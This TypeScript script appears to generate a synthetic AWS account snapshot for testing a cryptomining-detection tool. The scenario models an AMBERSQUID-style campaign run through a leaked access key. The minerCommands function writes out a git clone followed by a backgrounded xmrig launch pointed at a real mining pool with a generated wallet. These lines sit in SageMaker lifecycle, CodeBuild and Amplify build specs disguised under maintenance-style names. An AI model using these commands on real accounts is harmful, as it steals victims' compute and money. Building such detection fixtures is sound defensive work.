/**
 * Generates scenarios/ambersquid-campaign/snapshot.json: an AMBERSQUID-style campaign (Sysdig, 2023)
 * in a small company's account. A leaked access key created SageMaker notebooks whose lifecycle
 * script starts a miner, CodeBuild projects on the largest hosts whose buildspec runs one build
 * after another, and Amplify apps whose build step mines, in three regions the company never used.
 * Not a single EC2 instance was launched. The company's own CI project and marketing site must stay quiet.
 *
 * Run: npx tsx scripts/scenarios/ambersquid-campaign.ts
 */
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { redactSecrets } from "../../lambda/core/redact.js";
import type { CloudTrailEvent } from "../../lambda/core/sections/cloudtrail.js";
import type { ManagedCompute } from "../../lambda/core/sections/managed-compute.js";
import {
  type AccountSnapshot,
  type AccountSnapshotInput,
  AccountSnapshotSchema,
  SNAPSHOT_SCHEMA_VERSION,
} from "../../lambda/core/snapshot.js";
import { hoursBefore, iso, MINUTE_MS, Rng, regionList, seedFrom, storedUserData, writeCompactJson } from "./lib.js";
import {
  ACCOUNT_ID,
  type Attacker,
  attackerEvent,
  ENABLED_REGIONS,
  fullCoverage,
  HOME_REGION,
  homeCosts,
  homeWorkload,
  INSTANCE_TYPES,
  NOT_OPTED_IN_REGIONS,
} from "./small-company.js";

export const WINDOW_END = "2026-11-24T06:00:00.000Z";
const WINDOW_START = hoursBefore(WINDOW_END, 24);
const COLLECTED_AT = "2026-11-24T06:04:12.000Z";
const COST_BILLED_UNTIL = "2026-11-24T02:00:00.000Z";
/** The key was used 19 hours before the audit. */
const ATTACK_START = "2026-11-23T11:07:00.000Z";
export const CAMPAIGN_REGIONS = ["us-east-1", "us-west-2", "ap-southeast-1"] as const;

export const ATTACKER: Attacker = {
  userName: "amplify-deployer",
  accessKeyId: "AKIA4AMBERSQUIDLEAK7",
  sourceIp: "45.137.21.90",
  userAgent:
    "aws-cli/2.13.25 Python/3.11.5 Linux/5.15.0-86-generic exe/x86_64.ubuntu.22 prompt/off command/sagemaker.create-notebook-instance",
};
/** A fake secret the attacker's scripts carried: the collector must have redacted it. */
export const FAKE_GITHUB_TOKEN = "ghp_Q7mZ2vLx9TfR4nWc8KpB3sYd6HjA1eUo5iGq";

const OUTPUT = join(dirname(fileURLToPath(import.meta.url)), "../../scenarios/ambersquid-campaign/snapshot.json");

function walletAddress(): string {
  const rng = new Rng(seedFrom("ambersquid:wallet"));
  const alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
  let out = "4";
  while (out.length < 95) out += alphabet[Math.floor(rng.next() * alphabet.length)];
  return out;
}

/** The miner start-up the campaign hid in every service (AMBERSQUID pulled it from a GitHub repo). */
function minerCommands(worker: string): string[] {
  return [
    `git clone https://${FAKE_GITHUB_TOKEN}@github.com/delbidaluan/ecr-test.git /tmp/t`,
    "chmod +x /tmp/t/amplify-app.sh",
    `nohup /tmp/t/xmrig -o stratum+ssl://gulf.moneroocean.stream:20128 -u ${walletAddress()} -p ${worker} --donate-level 1 --cpu-max-threads-hint 100 > /dev/null 2>&1 &`,
  ];
}

function lifecycleScript(region: string): string {
  return ["#!/bin/bash", "set -e", "sudo -u ec2-user -i <<'EOF'", ...minerCommands(`sm-${region}`), "EOF"].join("\n");
}

function buildspec(region: string): string {
  return [
    "version: 0.2",
    "phases:",
    "  build:",
    "    commands:",
    ...minerCommands(`cb-${region}`).map((c) => `      - ${c}`),
    "      - sleep 28000",
  ].join("\n");
}

function amplifyBuildSpec(region: string): string {
  return [
    "version: 1",
    "frontend:",
    "  phases:",
    "    build:",
    "      commands:",
    ...minerCommands(`amp-${region}`).map((c) => `        - ${c}`),
    "        - sleep 3600",
    "  artifacts:",
    "    baseDirectory: /",
    "    files:",
    "      - '**/*'",
  ].join("\n");
}

const stored = (text: string) => storedUserData(text, redactSecrets);

interface Campaign {
  managed: Omit<ManagedCompute, "lambdaFunctions"> & { lambdaFunctions: [] };
  events: CloudTrailEvent[];
}

/** Per campaign region: 2 notebooks, one CodeBuild project building every 40 min, one Amplify app. */
function buildCampaign(): Campaign {
  const managed: Campaign["managed"] = {
    regionsRead: { sagemaker: [...ENABLED_REGIONS], codebuild: [...ENABLED_REGIONS], amplify: [...ENABLED_REGIONS] },
    notebookInstances: [],
    notebookLifecycleConfigs: [],
    codeBuildProjects: [],
    codeBuildBuilds: [],
    amplifyApps: [],
    lambdaFunctions: [],
  };
  const events: CloudTrailEvent[] = [];
  const attackStart = Date.parse(ATTACK_START);
  CAMPAIGN_REGIONS.forEach((region, r) => {
    const rng = new Rng(seedFrom(`ambersquid:${region}`));
    const t0 = attackStart + r * 6 * MINUTE_MS;
    const at = (minutes: number) => iso(t0 + minutes * MINUTE_MS + rng.int(0, 40) * 1000);

    // SageMaker: a lifecycle config named like a maintenance script, and two notebooks using it.
    const configName = "ntp-sync-config";
    const configArn = `arn:aws:sagemaker:${region}:${ACCOUNT_ID}:notebook-instance-lifecycle-config/${configName}`;
    const configTime = at(0);
    managed.notebookLifecycleConfigs.push({
      name: configName,
      region,
      creationTime: configTime,
      onStart: stored(lifecycleScript(region)),
    });
    events.push(
      attackerEvent(ATTACKER, "CreateNotebookInstanceLifecycleConfig", "sagemaker.amazonaws.com", region, configTime, {
        resources: [{ type: "sagemaker-lifecycle-config", id: configArn }],
      }),
    );
    ["ml.p3.2xlarge", "ml.g4dn.xlarge"].forEach((instanceType, k) => {
      const name = `ntp-sync-${k + 1}`;
      const arn = `arn:aws:sagemaker:${region}:${ACCOUNT_ID}:notebook-instance/${name}`;
      const created = at(1 + k);
      managed.notebookInstances.push({
        name,
        arn,
        region,
        instanceType,
        status: "InService",
        creationTime: created,
        lastModifiedTime: iso(Date.parse(created) + 6 * MINUTE_MS),
        lifecycleConfigName: configName,
        roleArn: `arn:aws:iam::${ACCOUNT_ID}:role/AMBERSQUID-SageMaker-Role`,
      });
      events.push(
        attackerEvent(ATTACKER, "CreateNotebookInstance", "sagemaker.amazonaws.com", region, created, {
          resources: [{ type: "sagemaker-notebook", id: arn }],
          request: { instanceType, notebookInstanceName: name },
        }),
      );
    });

    // CodeBuild: a no-source project on the largest hosts, restarted every 40 minutes.
    const projectName = "ecr-test-build";
    const projectArn = `arn:aws:codebuild:${region}:${ACCOUNT_ID}:project/${projectName}`;
    const projectCreated = at(4);
    managed.codeBuildProjects.push({
      name: projectName,
      arn: projectArn,
      region,
      computeType: "BUILD_GENERAL1_2XLARGE",
      image: "aws/codebuild/amazonlinux2-x86_64-standard:5.0",
      environmentType: "LINUX_CONTAINER",
      buildspec: stored(buildspec(region)),
      serviceRole: `arn:aws:iam::${ACCOUNT_ID}:role/AMBERSQUID-CodeBuild-Role`,
      created: projectCreated,
      lastModified: projectCreated,
    });
    events.push(
      attackerEvent(ATTACKER, "CreateProject", "codebuild.amazonaws.com", region, projectCreated, {
        resources: [{ type: "codebuild-project", id: projectArn }],
        request: { computeType: "BUILD_GENERAL1_2XLARGE" },
      }),
    );
    for (let start = Date.parse(projectCreated) + MINUTE_MS; start < Date.parse(WINDOW_END); start += 40 * MINUTE_MS) {
      const startTime = iso(start + rng.int(0, 30) * 1000);
      const id = `${projectName}:${rng.hex(8)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(4)}-${rng.hex(12)}`;
      const running = start + 40 * MINUTE_MS > Date.parse(WINDOW_END);
      managed.codeBuildBuilds.push({
        id,
        projectName,
        region,
        startTime,
        ...(running ? {} : { endTime: iso(start + 39 * MINUTE_MS) }),
        status: running ? "IN_PROGRESS" : "STOPPED",
        initiator: ATTACKER.userName,
      });
      events.push(
        attackerEvent(ATTACKER, "StartBuild", "codebuild.amazonaws.com", region, startTime, {
          resources: [{ type: "codebuild-project", id: projectArn }],
        }),
      );
    }

    // Amplify: an app whose build step mines.
    const appId = `d${rng.hex(13)}`;
    const appCreated = at(8);
    managed.amplifyApps.push({
      appId,
      name: "ecr-test-site",
      region,
      createTime: appCreated,
      repository: "https://github.com/delbidaluan/ecr-test",
      platform: "WEB",
      buildSpec: stored(amplifyBuildSpec(region)),
    });
    events.push(
      attackerEvent(ATTACKER, "CreateApp", "amplify.amazonaws.com", region, appCreated, {
        resources: [{ type: "amplify-app", id: `arn:aws:amplify:${region}:${ACCOUNT_ID}:apps/${appId}` }],
      }),
    );
  });

  // The company's own, in the home region: a CI project retired when CI moved to GitHub Actions
  // (no builds, no spend) and the marketing site, hosted on Amplify for over a year.
  managed.codeBuildProjects.push({
    name: "web-ci",
    arn: `arn:aws:codebuild:${HOME_REGION}:${ACCOUNT_ID}:project/web-ci`,
    region: HOME_REGION,
    computeType: "BUILD_GENERAL1_MEDIUM",
    image: "aws/codebuild/standard:7.0",
    environmentType: "LINUX_CONTAINER",
    serviceRole: `arn:aws:iam::${ACCOUNT_ID}:role/codebuild-web-ci`,
    created: hoursBefore(WINDOW_END, 24 * 400),
    lastModified: hoursBefore(WINDOW_END, 24 * 35),
  });
  managed.amplifyApps.push({
    appId: "d2k8m4x1q9w7e3",
    name: "marketing-site",
    region: HOME_REGION,
    createTime: hoursBefore(WINDOW_END, 24 * 420),
    repository: "https://github.com/example-co/marketing-site",
    platform: "WEB",
    buildSpec: stored(
      "version: 1\nfrontend:\n  phases:\n    preBuild:\n      commands:\n        - npm ci\n    build:\n      commands:\n        - npm run build\n  artifacts:\n    baseDirectory: dist\n    files:\n      - '**/*'\n",
    ),
  });
  managed.codeBuildBuilds.sort((a, b) => a.startTime.localeCompare(b.startTime) || a.id.localeCompare(b.id));
  events.sort((a, b) => a.eventTime.localeCompare(b.eventTime) || a.eventId.localeCompare(b.eventId));
  return { managed, events };
}

/** SageMaker and CodeBuild spend of the campaign, as far as Cost Explorer has billed it. */
function buildCosts(managed: Campaign["managed"]): NonNullable<AccountSnapshotInput["costs"]> {
  const ledger = homeCosts(WINDOW_END);
  const notebookHourly: Record<string, number> = { "ml.p3.2xlarge": 3.825, "ml.g4dn.xlarge": 0.7364 };
  for (const notebook of managed.notebookInstances) {
    ledger.addRunning(
      { region: notebook.region, service: "Amazon SageMaker" },
      notebook.creationTime,
      WINDOW_END,
      notebookHourly[notebook.instanceType] ?? 1,
      COST_BILLED_UNTIL,
    );
  }
  // BUILD_GENERAL1_2XLARGE Linux: $0.25 per build minute.
  for (const build of managed.codeBuildBuilds.filter((b) => b.projectName === "ecr-test-build")) {
    ledger.addRunning(
      { region: build.region, service: "AWS CodeBuild" },
      build.startTime,
      build.endTime ?? WINDOW_END,
      15,
      COST_BILLED_UNTIL,
    );
  }
  // The marketing site's hosting and the odd rebuild.
  ledger.addDaily({ region: HOME_REGION, service: "AWS Amplify" }, (i) => (i % 7 === 2 ? 0.9 : 0.55));
  for (const app of managed.amplifyApps.filter((a) => a.name === "ecr-test-site")) {
    ledger.addRunning(
      { region: app.region, service: "AWS Amplify" },
      app.createTime,
      WINDOW_END,
      0.6,
      COST_BILLED_UNTIL,
    );
  }
  return ledger.toCosts();
}

export function buildAmbersquidCampaign(): AccountSnapshot {
  const home = homeWorkload(WINDOW_END);
  const { managed, events } = buildCampaign();
  const instancesIn = (region: string) => home.instances.filter((i) => i.region === region).length;
  return AccountSnapshotSchema.parse({
    schemaVersion: SNAPSHOT_SCHEMA_VERSION,
    accountId: ACCOUNT_ID,
    collectedAt: COLLECTED_AT,
    window: { start: WINDOW_START, end: WINDOW_END },
    source: {
      tool: "minewatch",
      kind: "scenario",
      description:
        "AMBERSQUID-style campaign: SageMaker, CodeBuild and Amplify miners in three unused regions, no EC2 (generated by scripts/scenarios/ambersquid-campaign.ts)",
    },
    regions: regionList(ENABLED_REGIONS, NOT_OPTED_IN_REGIONS),
    instanceTypes: Object.fromEntries(
      ["r6i.xlarge", "t3.large"].flatMap((t) => (INSTANCE_TYPES[t] ? [[t, INSTANCE_TYPES[t]]] : [])),
    ),
    instances: home.instances,
    metrics: { gpuNamespace: "CWAgent", gpuAgentInstanceIds: [], byInstance: home.byInstance },
    costs: buildCosts(managed),
    costAnomalies: [],
    coverage: fullCoverage(instancesIn, [
      { service: "sagemaker", api: "ListNotebookInstances" },
      { service: "codebuild", api: "ListProjects" },
      { service: "codebuild", api: "ListBuilds" },
      { service: "amplify", api: "ListApps" },
    ]),
    cloudTrail: {
      regionsRead: [...ENABLED_REGIONS],
      eventNames: [
        "CreateNotebookInstance",
        "CreateNotebookInstanceLifecycleConfig",
        "CreateProject",
        "StartBuild",
        "CreateApp",
        "RunInstances",
      ],
      events,
    },
    managedCompute: managed,
  } satisfies AccountSnapshotInput);
}

function main(): void {
  const snapshot = buildAmbersquidCampaign();
  const bytes = writeCompactJson(OUTPUT, snapshot);
  const m = snapshot.managedCompute;
  console.log(
    `wrote ${OUTPUT} (${(bytes / 1024).toFixed(0)} KiB): ${m?.notebookInstances.length} notebooks, ${m?.codeBuildProjects.length} CodeBuild projects, ${m?.amplifyApps.length} Amplify apps`,
  );
  if (process.argv.includes("--ids")) {
    for (const n of m?.notebookInstances ?? []) console.log(n.arn);
    for (const p of m?.codeBuildProjects ?? []) console.log(p.arn);
    for (const a of m?.amplifyApps ?? []) console.log(a.region, a.appId, a.name);
  }
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) main();
